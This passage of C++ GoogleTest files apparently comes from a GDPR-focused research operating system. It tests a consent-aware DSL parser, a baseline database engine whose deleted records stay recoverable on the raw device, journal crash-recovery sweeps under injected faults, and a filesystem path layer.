    ASSERT_TRUE(decoded.ok()) << i;
    EXPECT_EQ(*decoded, m) << i;
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, MembraneCodecPropertyTest,
                         ::testing::Values(1u, 2u, 3u, 4u, 5u));

// ---- DSL robustness: truncation never crashes, always errors --------------------------------

TEST(DslPropertyTest, EveryPrefixOfAValidSourceFailsGracefully) {
  const std::string source = R"(
type user {
  fields { name: string, year: int };
  view v { year };
  consent { p1: all, p2: v };
  collection { web_form: f.html };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}
purpose p1 { input: user.v; output: user; description: "x"; }
)";
  int parsed_ok = 0;
  for (std::size_t len = 0; len < source.size(); ++len) {
    auto result = dsl::Parse(source.substr(0, len));
    if (result.ok()) ++parsed_ok;  // empty prefixes parse as empty programs
  }
  // Only whitespace prefixes and prefixes ending exactly at a complete
  // declaration may "succeed"; the overwhelming majority must error.
  EXPECT_LT(parsed_ok, 15);
  // The complete source parses.
  EXPECT_TRUE(dsl::Parse(source).ok());
}

TEST(DslPropertyTest, RandomByteMutationsNeverCrash) {
  const std::string source =
      "type t { fields { a: int, b: string }; consent { p: all }; }";
  Rng rng(17);
  for (int i = 0; i < 500; ++i) {
    std::string mutated = source;
    const std::size_t pos = rng.NextBelow(mutated.size());
    mutated[pos] = static_cast<char>(32 + rng.NextBelow(95));
    // Must not crash; may or may not parse.
    (void)dsl::Parse(mutated);
  }
}

// ---- Machine scheduler: work conservation --------------------------------------------------

TEST(MachinePropertyTest, TickNeverWastesBudgetWhileBacklogged) {
  Rng rng(23);
  for (int trial = 0; trial < 20; ++trial) {
    kernel::Machine machine;
    std::vector<kernel::JobQueueKernel*> kernels;
    const std::size_t kernel_count = 2 + rng.NextBelow(4);
    for (std::size_t k = 0; k < kernel_count; ++k) {
      kernels.push_back(static_cast<kernel::JobQueueKernel*>(
          machine.AddKernel(std::make_unique<kernel::JobQueueKernel>(
                                "k" + std::to_string(k),
                                kernel::KernelKind::kGeneralPurpose),
                            1 + rng.NextBelow(5))));
    }
    std::uint64_t total_work = 0;
    for (auto* kernel : kernels) {
      const std::size_t jobs = rng.NextBelow(50);
      for (std::size_t j = 0; j < jobs; ++j) {
        const std::uint64_t cost = 1 + rng.NextBelow(9);
        ASSERT_TRUE(kernel->Submit({cost, nullptr}).ok());
        total_work += cost;
      }
    }
    std::uint64_t consumed_before = 0;
    const std::uint64_t budget = 40;
    machine.Tick(budget);
    std::uint64_t consumed = 0, backlog = 0;
    for (auto* kernel : kernels) {
      consumed += kernel->units_consumed();
      backlog += kernel->Backlog();
    }
    // Work conservation: either the whole budget was used, or every
    // queue drained.
    EXPECT_TRUE(consumed - consumed_before == std::min(budget, total_work))
        << "trial " << trial << " consumed " << consumed << " backlog "
        << backlog;
    EXPECT_EQ(consumed + backlog, total_work) << trial;
  }
}

// ---- Zipf distribution sanity across parameters ----------------------------------------------

class ZipfPropertyTest
    : public ::testing::TestWithParam<std::tuple<std::uint64_t, double>> {};

TEST_P(ZipfPropertyTest, SamplesInRangeAndMonotoneHeads) {
  const auto [n, theta] = GetParam();
  Zipf zipf(n, theta, 5);
  std::vector<int> counts(n, 0);
  for (int i = 0; i < 30000; ++i) {
    const std::uint64_t v = zipf.Next();
    ASSERT_LT(v, n);
    ++counts[v];
  }
  // Head ranks dominate tail ranks for skewed theta.
  if (theta > 0.5 && n >= 100) {
    EXPECT_GT(counts[0] + counts[1] + counts[2],
              counts[n - 1] + counts[n - 2] + counts[n - 3]);
  }
}

INSTANTIATE_TEST_SUITE_P(
    Params, ZipfPropertyTest,
    ::testing::Combine(::testing::Values(10u, 100u, 10000u),
                       ::testing::Values(0.5, 0.9, 0.99)));

}  // namespace
}  // namespace rgpdos
