// Baseline (Fig-2 comparator) tests: consent-string semantics, rights as
// full scans, and — most importantly — the leak behaviours the paper
// attributes to the DB-level approach.
#include <gtest/gtest.h>

#include "baseline/baseline_engine.hpp"
#include "blockdev/block_device.hpp"
#include "dsl/parser.hpp"

namespace rgpdos::baseline {
namespace {

constexpr std::string_view kUserType = R"(
type user {
  fields { name: string, pwd: string, year_of_birthdate: int };
  view v_ano { year_of_birthdate };
  consent { purpose1: all, purpose2: none, purpose3: v_ano };
  origin: subject;
  age: 1Y;
  sensitivity: high;
}
)";

class BaselineTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 8192);
    inodefs::InodeStore::Options options;
    options.inode_count = 256;
    options.journal_blocks = 128;
    auto store = inodefs::InodeStore::Format(device_.get(), options, &clock_);
    ASSERT_TRUE(store.ok());
    store_ = std::move(store).value();
    auto fs = inodefs::FileSystem::Create(store_.get());
    ASSERT_TRUE(fs.ok());
    fs_ = std::make_unique<inodefs::FileSystem>(std::move(fs).value());
    auto engine = BaselineEngine::Create(fs_.get(), "/db", &clock_);
    ASSERT_TRUE(engine.ok());
    engine_ = std::make_unique<BaselineEngine>(std::move(engine).value());
    auto decl = dsl::ParseType(kUserType);
    ASSERT_TRUE(decl.ok());
    ASSERT_TRUE(engine_->CreateType(*decl).ok());
  }

  db::Row UserRow(const std::string& name, std::int64_t year) {
    return db::Row{db::Value(name), db::Value(std::string("pw")),
                   db::Value(year)};
  }

  SimClock clock_{1000};
  std::unique_ptr<blockdev::MemBlockDevice> device_;
  std::unique_ptr<inodefs::InodeStore> store_;
  std::unique_ptr<inodefs::FileSystem> fs_;
  std::unique_ptr<BaselineEngine> engine_;
};

TEST_F(BaselineTest, InsertAndGet) {
  auto id = engine_->Insert("user", 1, UserRow("alice", 1990));
  ASSERT_TRUE(id.ok()) << id.status().ToString();
  auto record = engine_->Get("user", *id);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(record->subject, 1u);
  EXPECT_EQ(*record->fields[0].AsString(), "alice");
  EXPECT_EQ(record->fields.size(), 3u);  // bookkeeping stripped
}

TEST_F(BaselineTest, SelectConsentedHonoursDefaults) {
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow("a", 1990)).ok());
  ASSERT_TRUE(engine_->Insert("user", 2, UserRow("b", 1991)).ok());
  EXPECT_EQ(engine_->SelectConsented("user", "purpose1")->size(), 2u);
  EXPECT_EQ(engine_->SelectConsented("user", "purpose2")->size(), 0u);
  EXPECT_EQ(engine_->SelectConsented("user", "purpose3")->size(), 2u);
  EXPECT_EQ(engine_->SelectConsented("user", "unlisted")->size(), 0u);
}

TEST_F(BaselineTest, TtlExpiryFiltersInUserspace) {
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow("a", 1990)).ok());
  clock_.Advance(kMicrosPerYear + 1);
  EXPECT_EQ(engine_->SelectConsented("user", "purpose1")->size(), 0u);
}

TEST_F(BaselineTest, ConsentWithdrawalRewritesRows) {
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow("a", 1990)).ok());
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow("a2", 1991)).ok());
  ASSERT_TRUE(engine_->Insert("user", 2, UserRow("b", 1992)).ok());
  auto updated = engine_->UpdateConsent(1, "purpose1", "none");
  ASSERT_TRUE(updated.ok());
  EXPECT_EQ(*updated, 2u);
  auto consented = engine_->SelectConsented("user", "purpose1");
  ASSERT_TRUE(consented.ok());
  ASSERT_EQ(consented->size(), 1u);
  EXPECT_EQ((*consented)[0].subject, 2u);
  // Adding a brand-new purpose entry works too.
  ASSERT_TRUE(engine_->UpdateConsent(2, "new_purpose", "all").ok());
  EXPECT_EQ(engine_->SelectConsented("user", "new_purpose")->size(), 1u);
}

TEST_F(BaselineTest, GetDataBySubjectScansAllTables) {
  auto decl2 = dsl::ParseType(
      "type order { fields { item: string }; consent { purpose1: all }; }");
  ASSERT_TRUE(decl2.ok());
  ASSERT_TRUE(engine_->CreateType(*decl2).ok());
  ASSERT_TRUE(engine_->Insert("user", 7, UserRow("g", 1990)).ok());
  ASSERT_TRUE(
      engine_->Insert("order", 7, db::Row{db::Value(std::string("book"))})
          .ok());
  ASSERT_TRUE(engine_->Insert("user", 8, UserRow("h", 1991)).ok());
  auto records = engine_->GetDataBySubject(7);
  ASSERT_TRUE(records.ok());
  EXPECT_EQ(records->size(), 2u);
}

TEST_F(BaselineTest, DeleteSubjectTombstonesEverything) {
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow("x", 1990)).ok());
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow("y", 1991)).ok());
  ASSERT_TRUE(engine_->Insert("user", 2, UserRow("z", 1992)).ok());
  auto deleted = engine_->DeleteSubject(1, /*compact=*/false);
  ASSERT_TRUE(deleted.ok());
  EXPECT_EQ(*deleted, 2u);
  EXPECT_TRUE(engine_->GetDataBySubject(1)->empty());
  EXPECT_EQ(engine_->GetDataBySubject(2)->size(), 1u);
}

TEST_F(BaselineTest, DeletedPdSurvivesBelowTheEngine) {
  // THE paper claim: the engine says "deleted", the device says no.
  const std::string secret = "BASELINE_DELETED_SECRET";
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow(secret, 1990)).ok());
  ASSERT_TRUE(engine_->DeleteSubject(1, /*compact=*/true).ok());
  EXPECT_TRUE(engine_->GetDataBySubject(1)->empty());
  // Plaintext still recoverable from the raw device (journal and/or
  // freed blocks), even after compaction.
  EXPECT_GT(blockdev::CountBlocksContaining(*device_, ToBytes(secret)), 0u);
}

TEST_F(BaselineTest, AuditPurposeCountsPerTable) {
  ASSERT_TRUE(engine_->Insert("user", 1, UserRow("a", 1990)).ok());
  ASSERT_TRUE(engine_->Insert("user", 2, UserRow("b", 1991)).ok());
  ASSERT_TRUE(engine_->UpdateConsent(2, "purpose1", "none").ok());
  auto audit = engine_->AuditPurpose("purpose1");
  ASSERT_TRUE(audit.ok());
  EXPECT_EQ(audit->at("user"), 1u);
}

TEST_F(BaselineTest, UpdatePreservesBookkeeping) {
  auto id = engine_->Insert("user", 1, UserRow("before", 1990));
  ASSERT_TRUE(id.ok());
  ASSERT_TRUE(engine_->Update("user", *id, UserRow("after", 1991)).ok());
  auto record = engine_->Get("user", *id);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(*record->fields[0].AsString(), "after");
  EXPECT_EQ(record->subject, 1u);
  // Consent survives the update.
  EXPECT_EQ(engine_->SelectConsented("user", "purpose1")->size(), 1u);
}


TEST_F(BaselineTest, SubjectIndexAblationMatchesScanResults) {
  // The indexed variant must return exactly what the scan variant does —
  // faster rights, identical answers, identical (non-)compliance.
  auto indexed = BaselineEngine::Create(fs_.get(), "/db_idx", &clock_,
                                        /*subject_index=*/true);
  ASSERT_TRUE(indexed.ok());
  auto decl = dsl::ParseType(kUserType);
  ASSERT_TRUE(indexed->CreateType(*decl).ok());
  for (std::uint64_t s = 1; s <= 5; ++s) {
    ASSERT_TRUE(engine_->Insert("user", s, UserRow("scan_u" +
                                                   std::to_string(s),
                                                   1990)).ok());
    ASSERT_TRUE(indexed->Insert("user", s, UserRow("idx_u" +
                                                   std::to_string(s),
                                                   1990)).ok());
  }
  auto scan_records = engine_->GetDataBySubject(3);
  auto index_records = indexed->GetDataBySubject(3);
  ASSERT_TRUE(scan_records.ok() && index_records.ok());
  ASSERT_EQ(scan_records->size(), index_records->size());
  ASSERT_EQ(index_records->size(), 1u);
  EXPECT_EQ(*(*index_records)[0].fields[0].AsString(), "idx_u3");

  // Indexed deletion removes the same rows...
  auto deleted = indexed->DeleteSubject(3, /*compact=*/true);
  ASSERT_TRUE(deleted.ok());
  EXPECT_EQ(*deleted, 1u);
  EXPECT_TRUE(indexed->GetDataBySubject(3)->empty());
  // ...and still leaks below the engine (compliance unchanged).
  EXPECT_GT(blockdev::CountBlocksContaining(*device_, ToBytes("idx_u3")),
            0u);
}

TEST_F(BaselineTest, UnknownTypeErrors) {
  EXPECT_FALSE(engine_->Insert("nope", 1, {}).ok());
  EXPECT_FALSE(engine_->SelectConsented("nope", "p").ok());
  EXPECT_FALSE(engine_->Get("nope", 1).ok());
  auto decl = dsl::ParseType(kUserType);
  EXPECT_EQ(engine_->CreateType(*decl).code(), StatusCode::kAlreadyExists);
}

}  // namespace
}  // namespace rgpdos::baseline
