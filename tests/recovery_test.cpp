// Crash-recovery suite: sweeps the fault-injecting device's
// crash-at-write-N over EVERY write index of the mixed PD workload (in
// clean-crash, torn-write and volatile-write-back modes), exercises the
// transient-IO retry path, replays seeded CI fault plans, and drives the
// RgpdOs boot-time recovery entry point (attach_dbfs_device).
//
// On failure the offending FaultPlan is written to
// $RGPD_FAULT_ARTIFACT_DIR (or /tmp) so CI can upload it; re-running the
// plan through CrashRecoveryHarness::RunWithPlan reproduces the red run
// exactly.
#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>

#include "core/rgpdos.hpp"
#include "dsl/parser.hpp"
#include "tests/recovery_harness.hpp"

namespace rgpdos {
namespace {

using testing::CrashRecoveryHarness;

/// Persist a failing plan for the CI artifact uploader; returns the path.
std::string WriteFaultArtifact(const std::string& test_name,
                               const blockdev::FaultPlan& plan,
                               const std::string& detail) {
  const char* dir = std::getenv("RGPD_FAULT_ARTIFACT_DIR");
  const std::string path = std::string(dir != nullptr ? dir : "/tmp") +
                           "/fault_plan_" + test_name + ".txt";
  std::ofstream out(path, std::ios::trunc);
  out << plan.ToString() << "\n" << detail << "\n";
  return path;
}

/// Run the crash sweep: every write index from 1 to the workload's total
/// write count, with `base` supplying the non-crash knobs.
void SweepEveryWriteIndex(const std::string& test_name,
                          blockdev::FaultPlan base,
                          CrashRecoveryHarness::Options options = {}) {
  CrashRecoveryHarness harness(options);
  auto total = harness.CountWorkloadWrites();
  ASSERT_TRUE(total.ok()) << total.status().ToString();
  ASSERT_GT(*total, 0u);
  std::size_t failures = 0;
  for (std::uint64_t n = 1; n <= *total; ++n) {
    blockdev::FaultPlan plan = base;
    plan.crash_at_write = n;
    const Status s = harness.RunWithPlan(plan);
    if (!s.ok()) {
      const std::string path =
          WriteFaultArtifact(test_name, plan, s.ToString());
      ADD_FAILURE() << s.ToString() << "\n(plan saved to " << path << ")";
      if (++failures >= 3) {
        FAIL() << "aborting sweep after 3 failing crash points (of "
               << *total << ")";
      }
    }
  }
}

TEST(CrashRecovery, EveryWriteIndexCleanCrash) {
  SweepEveryWriteIndex("clean", blockdev::FaultPlan{});
}

TEST(CrashRecovery, EveryWriteIndexTornCrash) {
  // The crashing write persists a 97-byte prefix: the journal record
  // header (and part of the payload) lands, the CRC tail does not.
  blockdev::FaultPlan base;
  base.torn_bytes = 97;
  SweepEveryWriteIndex("torn", base);
}

TEST(CrashRecovery, EveryWriteIndexWriteBackCrash) {
  // Volatile disk cache: everything unflushed at the crash is lost, so
  // any acknowledgement that didn't reach a durability barrier shows up
  // as a violated invariant.
  blockdev::FaultPlan base;
  base.volatile_write_back = true;
  SweepEveryWriteIndex("writeback", base);
}

// Journal-format matrix. The default sweeps above run the extent
// (physiological) format; these pin the legacy whole-block format and
// the upgrade case — an image formatted with legacy records and
// remounted with extents on, so EVERY crash point replays a region
// holding both formats (the circular region is never scrubbed at the
// flip).
TEST(CrashRecovery, EveryWriteIndexCleanCrashLegacyJournal) {
  CrashRecoveryHarness::Options options;
  options.journal_extents = false;
  SweepEveryWriteIndex("legacy_clean", blockdev::FaultPlan{}, options);
}

TEST(CrashRecovery, EveryWriteIndexCleanCrashMixedJournalFormats) {
  CrashRecoveryHarness::Options options;
  options.mixed_journal_formats = true;
  SweepEveryWriteIndex("mixed_clean", blockdev::FaultPlan{}, options);
}

TEST(CrashRecovery, EveryWriteIndexTornCrashMixedJournalFormats) {
  CrashRecoveryHarness::Options options;
  options.mixed_journal_formats = true;
  blockdev::FaultPlan base;
  base.torn_bytes = 97;
  SweepEveryWriteIndex("mixed_torn", base, options);
}

// Sharded spine (DESIGN.md §12): the same every-write-index sweep on a
// 2-shard boot, with the fault plan installed on ONE shard's medium at a
// time. Subjects 1/3 land on shard 1 and subject 2 on shard 0, so the
// shard-1 sweep crashes inside the hard-delete and envelope erasures
// while the shard-0 sweep crashes inside the consent withdrawal — and in
// every case the OTHER shard's acknowledged state must come through
// untouched and the facade must remount (I1-I5 across the union of
// media).
TEST(ShardedCrashRecovery, EveryWriteIndexCleanCrashFaultOnShardZero) {
  CrashRecoveryHarness::Options options;
  options.shards = 2;
  options.faulted_shard = 0;
  SweepEveryWriteIndex("sharded_shard0_clean", blockdev::FaultPlan{},
                       options);
}

TEST(ShardedCrashRecovery, EveryWriteIndexCleanCrashFaultOnShardOne) {
  CrashRecoveryHarness::Options options;
  options.shards = 2;
  options.faulted_shard = 1;
  SweepEveryWriteIndex("sharded_shard1_clean", blockdev::FaultPlan{},
                       options);
}

TEST(ShardedCrashRecovery, EveryWriteIndexTornCrashFaultOnShardOne) {
  CrashRecoveryHarness::Options options;
  options.shards = 2;
  options.faulted_shard = 1;
  blockdev::FaultPlan base;
  base.torn_bytes = 97;
  SweepEveryWriteIndex("sharded_shard1_torn", base, options);
}

TEST(ShardedCrashRecovery, EveryWriteIndexCleanCrashDuringShardedSweep) {
  // Retention phase: the TTL record belongs to subject 2 = shard 0, so
  // faulting shard 0 lands crashes inside the sweeper's journaled
  // expiry while the subject walk fans out across both shards.
  CrashRecoveryHarness::Options options;
  options.shards = 2;
  options.faulted_shard = 0;
  options.retention_sweep = true;
  SweepEveryWriteIndex("sharded_retention_clean", blockdev::FaultPlan{},
                       options);
}

// The retention sweeper's proactive expiry is an ordinary journaled
// hard delete, so a crash at ANY write inside the sweep must leave the
// expiry all-or-nothing and never resurrect the reaped plaintext. Same
// sweep as above with the workload's retention phase switched on, which
// extends the write range into the sweeper's transaction.
TEST(RetentionRecovery, EveryWriteIndexCleanCrashDuringSweep) {
  CrashRecoveryHarness::Options options;
  options.retention_sweep = true;
  SweepEveryWriteIndex("retention_clean", blockdev::FaultPlan{}, options);
}

TEST(RetentionRecovery, EveryWriteIndexTornCrashDuringSweep) {
  CrashRecoveryHarness::Options options;
  options.retention_sweep = true;
  blockdev::FaultPlan base;
  base.torn_bytes = 97;
  SweepEveryWriteIndex("retention_torn", base, options);
}

TEST(RetentionRecovery, SweepSurvivesTransientIoErrors) {
  // The sweeper inherits the inodefs retry policy: every 5th IO failing
  // once must not turn an expiry into a deferral loop.
  CrashRecoveryHarness::Options options;
  options.retention_sweep = true;
  CrashRecoveryHarness harness(options);
  blockdev::FaultPlan plan;
  plan.transient_error_every = 5;
  EXPECT_TRUE(harness.RunWithPlan(plan).ok());
}

TEST(CrashRecovery, TransientIoErrorsAreRetriedToCompletion) {
  // No crash — every 5th IO fails once with kIoError. The inodefs retry
  // policy must absorb all of them and the workload must finish with a
  // fully consistent image.
  CrashRecoveryHarness harness;
  blockdev::FaultPlan plan;
  plan.transient_error_every = 5;
  EXPECT_TRUE(harness.RunWithPlan(plan).ok());
}

TEST(CrashRecovery, SeededPlanFromEnv) {
  // CI matrix entry point: RGPDOS_FAULT_SEED picks the plan. Defaults to
  // a fixed seed so local runs are deterministic too.
  std::uint64_t seed = 1;
  if (const char* env = std::getenv("RGPDOS_FAULT_SEED");
      env != nullptr && *env != '\0') {
    seed = std::strtoull(env, nullptr, 10);
    if (seed == 0) seed = 1;
  }
  CrashRecoveryHarness harness;
  auto total = harness.CountWorkloadWrites();
  ASSERT_TRUE(total.ok()) << total.status().ToString();
  for (std::uint64_t stream = 0; stream < 8; ++stream) {
    const blockdev::FaultPlan plan =
        blockdev::FaultPlan::FromSeed(seed + stream, *total);
    const Status s = harness.RunWithPlan(plan);
    if (!s.ok()) {
      const std::string path = WriteFaultArtifact("seeded", plan,
                                                  s.ToString());
      ADD_FAILURE() << s.ToString() << "\n(plan saved to " << path << ")";
    }
  }
}

// ---- boot-time recovery (RgpdOs::Boot + attach_dbfs_device) -----------------

constexpr std::string_view kBootType = R"(
type note {
  fields { author: string, text: string };
  consent { reading: all };
  origin: subject;
  sensitivity: medium;
}
)";

/// Format a DBFS image on `medium` and return the declared type.
Result<dsl::TypeDecl> FormatBootImage(blockdev::BlockDevice& medium,
                                      const Clock& clock,
                                      sentinel::Sentinel& sentinel) {
  inodefs::InodeStore::Options options;
  options.inode_count = 96;
  options.journal_blocks = 64;
  RGPD_ASSIGN_OR_RETURN(
      auto store, inodefs::InodeStore::Format(&medium, options, &clock));
  RGPD_ASSIGN_OR_RETURN(auto fs,
                        dbfs::Dbfs::Format(store.get(), &sentinel, &clock));
  RGPD_ASSIGN_OR_RETURN(dsl::TypeDecl decl, dsl::ParseType(kBootType));
  RGPD_RETURN_IF_ERROR(fs->CreateType(sentinel::Domain::kSysadmin, decl));
  RGPD_RETURN_IF_ERROR(store->Sync());
  return decl;
}

TEST(BootRecovery, AttachedDeviceCrashesAndRebootRecovers) {
  SimClock clock(1000);
  sentinel::AuditSink audit;
  sentinel::Sentinel sentinel(sentinel::SecurityPolicy::RgpdDefault(),
                              &clock, &audit);
  blockdev::MemBlockDevice medium(4096, 2048);
  auto decl = FormatBootImage(medium, clock, sentinel);
  ASSERT_TRUE(decl.ok()) << decl.status().ToString();

  // Phase 1: boot attached to the image with a crash planned, write
  // until the power goes out.
  for (const std::uint64_t crash_at : {3u, 17u, 41u}) {
    core::BootConfig config;
    config.use_sim_clock = true;
    config.authority_key_bits = 512;
    config.attach_dbfs_device = &medium;
    config.fault_inject = true;
    config.fault_plan.crash_at_write = crash_at;
    auto os = core::RgpdOs::Boot(config);
    if (os.ok()) {
      bool crashed = false;
      for (int i = 0; i < 64 && !crashed; ++i) {
        auto put = (*os)->dbfs().Put(
            sentinel::Domain::kDed, 1, "note",
            db::Row{db::Value(std::string("amy")),
                    db::Value(std::string("boot note " +
                                          std::to_string(i)))},
            decl->DefaultMembrane(1, (*os)->clock().Now()));
        if (!put.ok()) {
          EXPECT_EQ(put.status().code(), StatusCode::kCrashed)
              << put.status().ToString();
          crashed = true;
        }
      }
      EXPECT_TRUE(crashed) << "crash_at=" << crash_at
                           << " never fired in 64 puts";
      ASSERT_NE((*os)->dbfs_fault(), nullptr);
      EXPECT_GE((*os)->dbfs_fault()->fault_stats().crashes, 1u);
    } else {
      // The crash landed during Boot's own mount/replay writes — that
      // must surface as kCrashed, not corruption.
      EXPECT_EQ(os.status().code(), StatusCode::kCrashed)
          << os.status().ToString();
    }

    // Phase 2: reboot on the surviving image with no faults. Boot's
    // attach path must replay the journal and come up consistent.
    core::BootConfig reboot;
    reboot.use_sim_clock = true;
    reboot.authority_key_bits = 512;
    reboot.attach_dbfs_device = &medium;
    auto rebooted = core::RgpdOs::Boot(reboot);
    ASSERT_TRUE(rebooted.ok()) << "crash_at=" << crash_at << ": "
                               << rebooted.status().ToString();
    // Every surviving record is complete, and the store takes new work.
    auto ids = (*rebooted)->dbfs().RecordsOfSubject(sentinel::Domain::kDed, 1);
    if (ids.ok()) {
      for (const dbfs::RecordId id : *ids) {
        auto rec = (*rebooted)->dbfs().Get(sentinel::Domain::kDed, id);
        ASSERT_TRUE(rec.ok()) << rec.status().ToString();
        EXPECT_EQ(rec->row.size(), 2u);
      }
    }
    auto post = (*rebooted)->dbfs().Put(
        sentinel::Domain::kDed, 2, "note",
        db::Row{db::Value(std::string("bea")),
                db::Value(std::string("post-reboot"))},
        decl->DefaultMembrane(2, (*rebooted)->clock().Now()));
    ASSERT_TRUE(post.ok()) << post.status().ToString();
  }
}

TEST(BootRecovery, AttachRejectsSplitSensitive) {
  blockdev::MemBlockDevice medium(4096, 256);
  core::BootConfig config;
  config.attach_dbfs_device = &medium;
  config.split_sensitive = true;
  auto os = core::RgpdOs::Boot(config);
  EXPECT_EQ(os.status().code(), StatusCode::kInvalidArgument);
}

TEST(BootRecovery, MountReportsRecoveryStats) {
  // A crash between journal commit and checkpoint leaves work for
  // Mount; last_recovery() must report it.
  SimClock clock(1000);
  blockdev::MemBlockDevice medium(512, 2048);
  inodefs::InodeStore::Options options;
  options.inode_count = 32;
  options.journal_blocks = 64;
  inodefs::InodeId inode = inodefs::kInvalidInode;
  {
    auto store = inodefs::InodeStore::Format(&medium, options, &clock);
    ASSERT_TRUE(store.ok());
    auto id = (*store)->AllocInode(inodefs::InodeKind::kFile);
    ASSERT_TRUE(id.ok());
    inode = *id;
    (*store)->SetCrashBeforeCheckpoint(true);
    const std::string data(300, 'r');
    ASSERT_TRUE(
        (*store)
            ->WriteAll(inode, ByteSpan(reinterpret_cast<const std::uint8_t*>(
                                           data.data()),
                                       data.size()))
            .ok());
  }
  auto store = inodefs::InodeStore::Mount(&medium, &clock);
  ASSERT_TRUE(store.ok()) << store.status().ToString();
  const auto& recovery = (*store)->last_recovery();
  EXPECT_GE(recovery.replay.committed_txns, 1u);
  EXPECT_GT(recovery.replay.replayed_writes, 0u);
  EXPECT_EQ(recovery.replay.replayed_writes, recovery.checkpointed_blocks);
  auto back = (*store)->ReadAll(inode);
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->size(), 300u);
}

}  // namespace
}  // namespace rgpdos
