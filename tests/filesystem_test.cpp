// Path-layer tests for the NPD filesystem (file granularity on the inode
// store), including the non-scrubbing unlink the Fig-2 baseline sits on.
#include <gtest/gtest.h>

#include "blockdev/block_device.hpp"
#include "inodefs/filesystem.hpp"

namespace rgpdos::inodefs {
namespace {

class FileSystemTest : public ::testing::Test {
 protected:
  void SetUp() override {
    device_ = std::make_unique<blockdev::MemBlockDevice>(512, 2048);
    InodeStore::Options options;
    options.inode_count = 128;
    options.journal_blocks = 64;
    auto store = InodeStore::Format(device_.get(), options, &clock_);
    ASSERT_TRUE(store.ok());
    store_ = std::move(store).value();
    auto fs = FileSystem::Create(store_.get());
    ASSERT_TRUE(fs.ok()) << fs.status().ToString();
    fs_ = std::make_unique<FileSystem>(std::move(fs).value());
  }

  SimClock clock_{0};
  std::unique_ptr<blockdev::MemBlockDevice> device_;
  std::unique_ptr<InodeStore> store_;
  std::unique_ptr<FileSystem> fs_;
};

TEST_F(FileSystemTest, WriteAndReadFile) {
  ASSERT_TRUE(fs_->WriteFile("/hello.txt", ToBytes("hi there")).ok());
  EXPECT_EQ(ToString(*fs_->ReadFile("/hello.txt")), "hi there");
  EXPECT_TRUE(fs_->Exists("/hello.txt"));
  EXPECT_FALSE(fs_->Exists("/other.txt"));
}

TEST_F(FileSystemTest, NestedDirectories) {
  ASSERT_TRUE(fs_->Mkdir("/a").ok());
  ASSERT_TRUE(fs_->Mkdir("/a/b").ok());
  ASSERT_TRUE(fs_->Mkdir("/a/b/c").ok());
  ASSERT_TRUE(fs_->WriteFile("/a/b/c/deep.txt", ToBytes("deep")).ok());
  EXPECT_EQ(ToString(*fs_->ReadFile("/a/b/c/deep.txt")), "deep");
  auto entries = fs_->ReadDir("/a/b");
  ASSERT_TRUE(entries.ok());
  ASSERT_EQ(entries->size(), 1u);
  EXPECT_EQ((*entries)[0].name, "c");
  EXPECT_EQ((*entries)[0].kind, InodeKind::kDirectory);
}

TEST_F(FileSystemTest, PathValidation) {
  EXPECT_EQ(fs_->WriteFile("relative", ToBytes("x")).code(),
            StatusCode::kInvalidArgument);
  EXPECT_EQ(fs_->Mkdir("/a/../b").code(), StatusCode::kInvalidArgument);
  EXPECT_FALSE(fs_->ReadFile("/missing/file").ok());
}

TEST_F(FileSystemTest, CreateFileFailsIfExists) {
  ASSERT_TRUE(fs_->CreateFile("/f").ok());
  EXPECT_EQ(fs_->CreateFile("/f").status().code(),
            StatusCode::kAlreadyExists);
  EXPECT_EQ(fs_->Mkdir("/f").code(), StatusCode::kAlreadyExists);
}

TEST_F(FileSystemTest, AppendGrowsFile) {
  ASSERT_TRUE(fs_->AppendFile("/log", ToBytes("one ")).ok());
  ASSERT_TRUE(fs_->AppendFile("/log", ToBytes("two")).ok());
  EXPECT_EQ(ToString(*fs_->ReadFile("/log")), "one two");
}

TEST_F(FileSystemTest, UnlinkRemovesEntry) {
  ASSERT_TRUE(fs_->WriteFile("/f", ToBytes("bye")).ok());
  ASSERT_TRUE(fs_->Unlink("/f").ok());
  EXPECT_FALSE(fs_->Exists("/f"));
  EXPECT_EQ(fs_->Unlink("/f").code(), StatusCode::kNotFound);
}

TEST_F(FileSystemTest, UnlinkNonEmptyDirectoryFails) {
  ASSERT_TRUE(fs_->Mkdir("/d").ok());
  ASSERT_TRUE(fs_->WriteFile("/d/f", ToBytes("x")).ok());
  EXPECT_EQ(fs_->Unlink("/d").code(), StatusCode::kFailedPrecondition);
  ASSERT_TRUE(fs_->Unlink("/d/f").ok());
  EXPECT_TRUE(fs_->Unlink("/d").ok());
}

TEST_F(FileSystemTest, PlainUnlinkLeaksContentScrubbedUnlinkDoesNotOnData) {
  const Bytes secret = ToBytes("UNLINKED_SECRET_BYTES");
  ASSERT_TRUE(fs_->WriteFile("/secret", secret).ok());
  ASSERT_TRUE(fs_->Unlink("/secret", /*scrub=*/false).ok());
  // ext4-like unlink: bytes survive in freed blocks (and the journal).
  EXPECT_GT(blockdev::CountBlocksContaining(*device_, secret), 0u);

  const Bytes secret2 = ToBytes("SCRUB_UNLINKED_BYTES");
  ASSERT_TRUE(fs_->WriteFile("/secret2", secret2).ok());
  ASSERT_TRUE(fs_->Unlink("/secret2", /*scrub=*/true).ok());
  ASSERT_TRUE(store_->ScrubJournal().ok());
  EXPECT_EQ(blockdev::CountBlocksContaining(*device_, secret2), 0u);
}

TEST_F(FileSystemTest, StatReportsSizeAndKind) {
  ASSERT_TRUE(fs_->WriteFile("/f", ToBytes("12345")).ok());
  auto stat = fs_->Stat("/f");
  ASSERT_TRUE(stat.ok());
  EXPECT_EQ(stat->size, 5u);
  EXPECT_EQ(stat->kind, InodeKind::kFile);
}

TEST_F(FileSystemTest, ReopenAfterSync) {
  ASSERT_TRUE(fs_->Mkdir("/persist").ok());
  ASSERT_TRUE(fs_->WriteFile("/persist/f", ToBytes("durable")).ok());
